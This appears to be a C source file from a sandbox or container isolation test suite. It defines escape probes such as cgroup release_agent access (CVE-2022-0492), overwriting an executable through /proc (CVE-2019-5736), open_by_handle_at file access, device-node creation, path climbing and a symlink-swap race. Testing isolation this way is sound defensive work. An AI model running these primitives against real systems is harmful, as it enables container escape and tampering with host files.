/* Reaching files of the host, through names, mounts, handles, descriptors and devices. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static int read_descriptor(int fd)
{
    char text[512];
    ssize_t n = read(fd, text, sizeof(text) - 1);

    if (n < 0)
        return not("read");
    if (n == 0)
        return not_because("EMPTY read");
    text[n] = '\0';
    text[strcspn(text, "\n")] = '\0';
    return got("%s", text);
}

static int read_file(int argc, char **argv)
{
    int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_NOCTTY);

    (void)argc;
    return fd < 0 ? not("open") : read_descriptor(fd);
}

/* Only opens: for files of the machine that no test may change. */
static int open_file(int argc, char **argv)
{
    int flags = !strcmp(argv[1], "w") ? O_WRONLY : !strcmp(argv[1], "rw") ? O_RDWR : O_RDONLY;

    (void)argc;
    return outcome(open(argv[0], flags | O_NONBLOCK | O_NOCTTY), "open");
}

static int write_named(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);

    if (fd < 0)
        return not("open");
    return outcome(write(fd, text, strlen(text)), "write");
}

static int write_file(int argc, char **argv)
{
    (void)argc;
    return write_named(argv[0], argv[1]);
}

/* Without O_CREAT: procfs and devices do not like it. */
static int write_existing(int argc, char **argv)
{
    int fd = open(argv[0], O_WRONLY | O_NOCTTY);

    (void)argc;
    if (fd < 0)
        return not("open");
    return outcome(write(fd, argv[1], strlen(argv[1])), "write");
}

static int list(int argc, char **argv)
{
    char names[3500] = "";
    DIR *dir = opendir(argv[0]);
    struct dirent *entry;

    (void)argc;
    if (!dir)
        return not("opendir");
    while ((entry = readdir(dir)))
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..") &&
            strlen(names) + strlen(entry->d_name) + 2 < sizeof(names))
            strcat(strcat(names, entry->d_name), " ");
    return names[0] ? got("%s", names) : not_because("EMPTY directory");
}

static int touch(int argc, char **argv)
{
    struct timespec times[2] = { { .tv_sec = argc > 1 ? number(argv[1]) : 0, .tv_nsec = 0 } };

    times[1] = times[0];
    return outcome(utimensat(AT_FDCWD, argv[0], argc > 1 ? times : NULL, 0), "utimensat");
}

/* Makes a read-only mount writable, then writes there. */
static int remount_write(int argc, char **argv)
{
    (void)argc;
    if (mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
        return not("remount");
    return write_named(argv[1], argv[2]);
}

static int mount_tmpfs(int argc, char **argv)
{
    (void)argc;
    return outcome(mount("none", argv[0], "tmpfs", 0, "size=64k"), "mount");
}

static int mount_new_api(int argc, char **argv)
{
    long fs = syscall(SYS_fsopen, "tmpfs", 0), mnt;

    (void)argc;
    if (fs < 0)
        return not("fsopen");
    if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
        return not("fsconfig");
    mnt = syscall(SYS_fsmount, fs, 0, 0);
    if (mnt < 0)
        return not("fsmount");
    return outcome(syscall(SYS_move_mount, mnt, "", AT_FDCWD, argv[0], MOVE_MOUNT_F_EMPTY_PATH),
                   "move_mount");
}

static int clone_tree(int argc, char **argv)
{
    (void)argc;
    return outcome(syscall(SYS_open_tree, AT_FDCWD, argv[0], OPEN_TREE_CLONE), "open_tree");
}

static int unmask(int argc, char **argv)
{
    (void)argc;
    return outcome(umount2(argv[0], MNT_DETACH), "umount2");
}

/* CVE-2022-0492: a v1 hierarchy of one's own has a release_agent that runs outside. */
static int mount_cgroup(int argc, char **argv)
{
    char path[300];

    if (mount("none", argv[0], "cgroup", 0, argv[1]) < 0)
        return not("mount");
    snprintf(path, sizeof(path), "%s/release_agent", argv[0]);
    (void)argc;
    return outcome(open(path, O_WRONLY), "open release_agent");
}

static int change_root(int argc, char **argv)
{
    (void)argc;
    return outcome(chroot(argv[0]), "chroot");
}

static int pivot(int argc, char **argv)
{
    (void)argc;
    if (chdir(argv[0]) < 0)
        return not("chdir");
    return outcome(syscall(SYS_pivot_root, ".", "."), "pivot_root");
}

/* A file by its handle, from any descriptor on the same file system: no name is looked up. */
static int by_handle(int argc, char **argv)
{
    union {
        struct file_handle head;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } handle = { .head = { .handle_type = (int)number(argv[1]) } };
    int where = open(argv[2], O_RDONLY | O_DIRECTORY), fd;

    (void)argc;
    if (where < 0)
        return not("open");
    for (const char *hex = argv[0]; hex[0] && hex[1]; hex += 2) {
        char two[3] = { hex[0], hex[1] };

        handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)strtol(two, NULL, 16);
    }
    fd = open_by_handle_at(where, &handle.head, O_RDONLY);
    return fd < 0 ? not("open_by_handle_at") : read_descriptor(fd);
}

static int make_handle(int argc, char **argv)
{
    union {
        struct file_handle head;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } handle = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
    char hex[2 * MAX_HANDLE_SZ + 1] = "";
    int mount_id;

    (void)argc;
    if (name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &mount_id, 0) < 0)
        return not("name_to_handle_at");
    for (unsigned int i = 0; i < handle.head.handle_bytes; i++)
        sprintf(hex + 2 * i, "%02x", handle.head.f_handle[i]);
    return got("%s %d", hex, handle.head.handle_type);
}

/* A device node of one's own.  ENXIO says that a driver was asked: the node worked. */
static int make_node(int argc, char **argv)
{
    mode_t type = !strcmp(argv[1], "b") ? S_IFBLK : S_IFCHR;
    dev_t dev = makedev((unsigned int)number(argv[2]), (unsigned int)number(argv[3]));
    int fd, r;

    (void)argc;
    if (mknod(argv[0], type | 0666, dev) < 0)
        return not("mknod");
    fd = open(argv[0], O_RDONLY | O_NONBLOCK);
    r = fd < 0 && errno != ENXIO ? not("open the node") : got("a device");
    unlink(argv[0]);
    return r;
}

/* Whether a descriptor that we should not have leads to a directory with a file of this name. */
static int through_descriptors(int argc, char **argv)
{
    for (int fd = 3; fd < 4096; fd++) {
        int file = openat(fd, argv[0], O_RDONLY);

        if (file >= 0)
            return read_descriptor(file);
    }
    (void)argc;
    return not_because("ENOENT no descriptor leads to %s", argv[0]);
}

static int count_descriptors(int argc, char **argv)
{
    char found[2000] = "";

    (void)argc;
    (void)argv;
    for (int fd = 3; fd < 4096 && strlen(found) < sizeof(found) - 8; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            sprintf(found + strlen(found), "%d ", fd);
    return found[0] ? got("%s", found) : not_because("EBADF no descriptor beyond 0, 1 and 2");
}

/* Climbs from the current directory, then looks for a file of the host. */
static int climb(int argc, char **argv)
{
    char path[4096] = "";
    int fd;

    for (int i = 0; i < 64; i++)
        strcat(path, "../");
    strcat(path, argv[0] + (argv[0][0] == '/'));
    fd = open(path, O_RDONLY);
    (void)argc;
    return fd < 0 ? not("open") : read_descriptor(fd);
}

/* CVE-2019-5736: hold the file that a process executes, write when it may be written. */
static int overwrite_executable(int argc, char **argv)
{
    int held = open(argv[0], O_RDONLY | O_CLOEXEC), fd;
    char path[64];
    time_t deadline = time(NULL) + number(argv[2]);

    (void)argc;
    if (held < 0)
        return not("open");
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    do
        fd = open(path, O_WRONLY);
    while (fd < 0 && errno == ETXTBSY && time(NULL) < deadline);
    if (fd < 0)
        return not("reopen for writing");
    return outcome(write(fd, argv[1], strlen(argv[1])), "write");
}

static int lock_file(int argc, char **argv)
{
    struct flock whole = { .l_type = F_RDLCK };
    int fd = open(argv[1], O_RDONLY), command;

    (void)argc;
    if (fd < 0)
        return not("open");
    if (!strcmp(argv[0], "flock"))
        return outcome(flock(fd, LOCK_EX | LOCK_NB), "flock");
    command = !strcmp(argv[0], "posix") ? F_SETLK : !strcmp(argv[0], "ofd") ? F_OFD_SETLK : 0;
    if (command)
        return outcome(fcntl(fd, command, &whole), "fcntl");
    if (!strcmp(argv[0], "lease"))
        return outcome(fcntl(fd, F_SETLEASE, F_RDLCK), "lease");
    return outcome(fcntl(fd, F_NOTIFY, DN_ACCESS), "notify");
}

#define SWAPPED 64       /* names */
#define SWAPS 2000000000 /* in all: far more than a test waits for */

static int make_pair(const char *directory, int i, const char *target)
{
    char hot[300], cold[300];
    int fd;

    snprintf(hot, sizeof(hot), "%.200s/hot/%d", directory, i);
    snprintf(cold, sizeof(cold), "%.200s/cold/%d", directory, i);
    fd = open(hot, O_WRONLY | O_CREAT | O_EXCL, 0377);
    if (fd < 0 || fchmod(fd, 0377) < 0 || close(fd) < 0)
        return -1;
    return symlink(target, cold);
}

/* Files that their owner may not read, each of which is a link again and again, until stdin is
 * closed. */
static int swap(int argc, char **argv)
{
    struct pollfd end = { .fd = STDIN_FILENO, .events = POLLIN };
    char path[300], name[SWAPPED][8];
    int hot, cold;

    (void)argc;
    snprintf(path, sizeof(path), "%.200s/hot", argv[0]);
    if (mkdir(path, 0755) < 0 || (hot = open(path, O_RDONLY | O_DIRECTORY)) < 0)
        return not("hot");
    snprintf(path, sizeof(path), "%.200s/cold", argv[0]);
    if (mkdir(path, 0755) < 0 || (cold = open(path, O_RDONLY | O_DIRECTORY)) < 0)
        return not("cold");
    for (int i = 0; i < SWAPPED; i++) {
        snprintf(name[i], sizeof(name[i]), "%d", i);
        if (make_pair(argv[0], i, argv[1]) < 0)
            return not("a pair");
    }
    printf("swapping\n");
    fflush(stdout);
    for (long n = 0; n < SWAPS && (n % 1024 || poll(&end, 1, 0) == 0); n++)
        if (syscall(SYS_renameat2, hot, name[n % SWAPPED], cold, name[n % SWAPPED],
                    RENAME_EXCHANGE) < 0)
            return not("swapping");
    return got("all swapped");
}

const struct attack file_attacks[] = {
    { "read", read_file, 1 },
    { "open", open_file, 2 },
    { "write", write_file, 2 },
    { "write-existing", write_existing, 2 },
    { "list", list, 1 },
    { "touch", touch, 1 },
    { "remount-write", remount_write, 3 },
    { "mount", mount_tmpfs, 1 },
    { "mount-new-api", mount_new_api, 1 },
    { "open-tree", clone_tree, 1 },
    { "unmask", unmask, 1 },
    { "mount-cgroup", mount_cgroup, 2 },
    { "chroot", change_root, 1 },
    { "pivot", pivot, 1 },
    { "by-handle", by_handle, 3 },
    { "make-handle", make_handle, 1 },
    { "mknod", make_node, 4 },
    { "through-descriptors", through_descriptors, 1 },
    { "descriptors", count_descriptors, 0 },
    { "climb", climb, 1 },
    { "overwrite-executable", overwrite_executable, 3 },
    { "lock", lock_file, 2 },
    { "swap", swap, 2 },
    { NULL, NULL, 0 },
};
